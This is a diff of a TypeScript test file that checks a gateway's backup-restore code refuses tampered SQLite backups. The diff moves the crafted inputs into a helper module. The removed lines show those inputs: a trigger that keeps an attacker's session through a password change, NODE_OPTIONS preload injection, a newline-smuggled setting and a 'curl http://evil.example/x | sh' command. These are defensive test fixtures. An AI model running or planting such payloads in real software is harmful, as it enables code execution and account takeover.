@@ -11,21 +11,17 @@ import { copyFileSync, existsSync, readdirSync, readFileSync, rmSync } from 'nod
 import { join } from 'node:path';
 import { after, before, describe, test } from 'node:test';
 import Database from 'better-sqlite3';
-import { contentDigest } from '../../src/core/maintenance/store-backup.ts';
 import { stagedPath } from '../../src/core/maintenance/store-restore.ts';
 import { freePort, runCli, spawnCli, startArgs } from '../helpers/cli.ts';
+import { craftBackup, INJECTED_SETTINGS, PLANTED, UNREADABLE } from '../helpers/crafted-backups.ts';
 import { call, rest, startGateway, type TestGateway, tempDir } from '../helpers/foundation.ts';
 import { endpoint, sendEvent } from '../helpers/thirdparty.ts';
 
 /** A backup of `g`, changed by `craft`, with its digest recomputed as an attacker would. */
 async function craftedBackup(g: TestGateway, dir: string, name: string, craft: (db: Database.Database) => void) {
-  const file = join(dir, `${name}.backup`);
-  await g.gateway.backup(file);
-  const db = new Database(file);
-  craft(db);
-  db.prepare("UPDATE opencube_backup SET value = ? WHERE key = 'digest'").run(JSON.stringify(contentDigest(db)));
-  db.close();
-  return file;
+  const taken = join(dir, `${name}.taken`);
+  await g.gateway.backup(taken);
+  return craftBackup(taken, join(dir, `${name}.backup`), craft);
 }
 
 let g: TestGateway;
@@ -54,88 +50,14 @@ async function stage(file: string) {
 }
 
 describe('a crafted backup is refused before anything changes', () => {
-  test('a trigger that keeps an attacker’s console session through a password change', async () => {
-    const file = await craftedBackup(g, dir, 'trigger', (db) =>
-      db.exec(`CREATE TRIGGER keep_session AFTER DELETE ON console_sessions
-        BEGIN INSERT INTO console_sessions SELECT old.id, old.hash, old.created_at, old.last_seen_at,
-        '2999-01-01T00:00:00.000Z', old.address, old.user_agent; END;`),
-    );
-    const { r, staged } = await stage(file);
-    assert.equal(r.ok, false);
-    assert.ok(!r.ok);
-    assert.equal(
-      r.message,
-      'the backup holds what no backup of opencube holds (trigger keep_session): it was changed after it was taken, and is not restored',
-    );
-    assert.equal(staged, false, 'nothing is staged');
-  });
-
-  const planted: [string, string, RegExp][] = [
-    ['a view', 'CREATE VIEW v AS SELECT * FROM tokens', /\(view v\)/],
-    ['a table', 'CREATE TABLE extra (x)', /\(table extra\)/],
-    ['an index', 'CREATE INDEX i ON devices (name)', /\(index i\)/],
-    [
-      'a changed column (a default that runs on every insert)',
-      "ALTER TABLE tokens ADD COLUMN note TEXT DEFAULT 'x'",
-      /\(table tokens\)/,
-    ],
-    ['a dropped table', 'DROP TABLE ui_cards', /lacks table ui_cards/],
-  ];
-  for (const [what, sql, message] of planted)
+  for (const [what, sql, message] of [...PLANTED, ...UNREADABLE])
     test(`${what}`, async () => {
       const file = await craftedBackup(g, dir, what.replace(/\W+/g, '-'), (db) => db.exec(sql));
       const { r, staged } = await stage(file);
       assert.equal(r.ok, false, what);
       assert.ok(!r.ok);
       assert.match(r.message, message);
-      assert.equal(staged, false);
-    });
-
-  const unreadable: [string, string, RegExp][] = [
-    [
-      'a device whose capabilities are not JSON',
-      "UPDATE devices SET capabilities = '{'",
-      /^the backup cannot be restored: devices, row 1 \(serial number [0-9a-f]{16}\): capabilities: not JSON$/,
-    ],
-    [
-      'a device whose capabilities are no list',
-      `UPDATE devices SET capabilities = '{"a":1}'`,
-      /devices, row 1 \(serial number [0-9a-f]{16}\): capabilities: expected an array/,
-    ],
-    [
-      'a device whose state is a list',
-      "UPDATE devices SET state = '[]'",
-      /devices, row 1 .*: state: expected an object/,
-    ],
-    [
-      'a setting of the console that is not JSON',
-      "INSERT INTO kv (key, value) VALUES ('x', '{')",
-      /kv, row x: value: not JSON/,
-    ],
-    [
-      'a card whose settings are not JSON',
-      "INSERT INTO ui_cards (id, web_settings, created_at, updated_at) VALUES ('c', '{', 'a', 'b')",
-      /ui_cards, row c: web_settings: not JSON/,
-    ],
-    [
-      'a Matter value that is not JSON',
-      "INSERT INTO matter_storage (context, key, value) VALUES ('a', 'b', '{')",
-      /matter_storage, row a b: value: not JSON/,
-    ],
-    [
-      'a console password that is no scrypt hash',
-      "UPDATE console_password SET hash = 'plain'",
-      /console_password: not a password hash this release reads/,
-    ],
-  ];
-  for (const [what, sql, message] of unreadable)
-    test(`${what}`, async () => {
-      const file = await craftedBackup(g, dir, what.replace(/\W+/g, '-'), (db) => db.exec(sql));
-      const { r, staged } = await stage(file);
-      assert.equal(r.ok, false, what);
-      assert.ok(!r.ok);
-      assert.match(r.message, message);
-      assert.equal(staged, false);
+      assert.equal(staged, false, 'nothing is staged');
     });
 
   test('a good backup of the same gateway is still restored', async () => {
@@ -149,18 +71,7 @@ describe('a crafted backup is refused before anything changes', () => {
 describe('the settings a backup carries', () => {
   test('only known settings reach settings-from-backup.env, one line each, checked and quoted; commands are commented out', async (t) => {
     const file = await craftedBackup(g, dir, 'settings', (db) =>
-      db.prepare("UPDATE opencube_backup SET value = ? WHERE key = 'settings'").run(
-        JSON.stringify({
-          NODE_OPTIONS: '--require=/tmp/evil.js',
-          OPENCUBE_NAME: 'attic\nNODE_OPTIONS=--require=/tmp/evil.js',
-          OPENCUBE_DOMAIN: "it's",
-          OPENCUBE_PORT: '99999',
-          OPENCUBE_LOG_LEVEL: 'debug',
-          OPENCUBE_AUDIO_COMMAND: 'curl http://evil.example/x | sh',
-          OPENCUBE_ZIGBEE_MQTT_URL: 'mqtt://z2m:pa55word@10.1.2.3:1883',
-          OPENCUBE_DATA_DIR: '/etc',
-        }),
-      ),
+      db.prepare("UPDATE opencube_backup SET value = ? WHERE key = 'settings'").run(JSON.stringify(INJECTED_SETTINGS)),
     );
     const target = join(dir, 'settings-target');
     t.after(() => rmSync(target, { recursive: true, force: true }));
